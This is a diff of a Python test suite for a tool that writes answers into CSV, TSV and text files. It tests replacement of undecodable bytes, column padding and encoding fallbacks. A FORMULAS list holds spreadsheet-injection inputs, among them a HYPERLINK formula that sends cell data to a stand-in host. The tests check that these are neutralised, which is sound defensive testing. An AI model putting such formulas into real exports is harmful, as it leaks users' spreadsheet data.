@@ -87,16 +87,22 @@ def test_a_text_becomes_a_csv() -> None:
     )
 
 
-def test_a_text_s_bytes_stay_even_where_they_are_no_text() -> None:
-    assert answers("r.txt", b"a\xff\rb\n", "x") == b'text,answer,_status,_error\n"a\xff\rb",x,ok,\n'
+def test_what_is_no_text_is_replaced_so_that_the_answers_are() -> None:
+    assert answers("r.txt", b"a\xff\rb\n", "x") == 'text,answer,_status,_error\n"a\ufffd\rb",x,ok,\n'.encode()
+    assert answers("r.csv", b'a,b\n"1\xff",2\n', "x") == "a,b,answer,_status,_error\n1\ufffd,2,x,ok,\n".encode()
+    written = answers("r.csv", b"a,b\n1\x81,2\r\n", "x", encoding="windows-1252")
+    assert written == b"a,b,answer,_status,_error\n1?,2,x,ok,\r\n"
 
 
-def test_a_short_row_is_filled_up_so_that_columns_align() -> None:
-    data = b'a,b,c\n1,"x,\ny"\n1,2,3\n1,2,3,4\n'
+def test_a_row_that_is_too_short_or_too_long_has_as_many_columns_as_the_others() -> None:
+    data = b'a,b,c\n1,"x,\ny"\n1,2,3\n1,2,3,4\n"a"b,2,3\n\xff\n1,\xff,3,4\n'
     written = list(csv.reader(io.StringIO(answers("r.csv", data, "x").decode(), newline="")))
     assert written[1] == ["1", "x,\ny", "", "x", "ok", ""]
     assert written[2] == ["1", "2", "3", "x", "ok", ""]
-    assert written[3] == ["1", "2", "3", "4", "x", "ok", ""]
+    assert written[3] == ["1", "2", "3", "x", "ok", ""], "the failed file has the fourth value"
+    assert written[4] == ['"a"b,2,3', "", "", "x", "ok", ""], "nobody can tell where its values end"
+    assert written[5] == ["\ufffd", "", "", "x", "ok", ""]
+    assert written[6] == ["1", "\ufffd", "3", "x", "ok", ""]
 
 
 def test_a_character_that_the_encoding_lacks_becomes_a_reference() -> None:
@@ -104,6 +110,19 @@ def test_a_character_that_the_encoding_lacks_becomes_a_reference() -> None:
     assert answers("r.csv", data, "5 € 😀", encoding="windows-1252") == data.replace(
         b"\n", b",answer,_status,_error\n", 1
     ).replace(b"t\xe9\n", b"t\xe9,5 \x80 &#128512;,ok,\n")
+
+
+@pytest.mark.parametrize("quoting", ["double", "none"])
+def test_a_reference_does_not_end_a_field(quoting: str) -> None:
+    reader = drop("r.csv", b"a;b\n1;2\n", encoding="windows-1252", quoting=quoting)
+    names = ("😀", "_status")
+    written = answers_head(reader.layout, names) + b"".join(
+        answered(reader.layout, record, names, ["😀 =", "ok"]) for record in reader
+    )
+    read = list(csv.reader(io.StringIO(written.decode("cp1252")), delimiter=";"))
+    assert list(map(len, read)) == [4, 4]
+    if quoting == "double":
+        assert read == [["a", "b", "&#128512;", "_status"], ["1", "2", "&#128512; =", "ok"]]
 
 
 def test_the_answers_extension_is_the_drop_s_but_for_a_text() -> None:
@@ -119,7 +138,7 @@ def test_the_failed_file_starts_as_the_drop_did() -> None:
 
 
 FORMULAS = ['=HYPERLINK("http://x"&A1)', "+1+1", "-1+1", "- a list", "@SUM(A1)", "\t=1", "\r=1", "=", "-", "+-1", "-1e"]
-NUMBERS = ["-3.5", "+3", "-.5", "-1e10", "+1.E-3"]
+NUMBERS = ["-3.5", "+3", "-.5", "-1e10", "+1.E-3", "-1,234.50", "-3,5", "+12%"]
 
 
 @pytest.mark.parametrize("name", ["r.csv", "r.tsv", "r.txt"])
@@ -131,7 +150,8 @@ def test_a_text_that_a_spreadsheet_would_run_is_told_to_be_a_text(name: str, tex
 
 @pytest.mark.parametrize("text", [*NUMBERS, "", "a=1", " =1", "1-1", "'=1"])
 def test_a_plain_number_and_any_other_text_stay(text: str) -> None:
-    assert answers("r.csv", b"a\n1\n", text).endswith(f"1,{text},ok,\n".encode())
+    written = list(csv.reader(io.StringIO(answers("r.csv", b"a\n1\n", text).decode(), newline="")))
+    assert written[-1] == ["1", text, "ok", ""]
 
 
 @pytest.mark.parametrize("value", [-3.5, -1, orjson.Fragment(b"-1.10"), True, None])
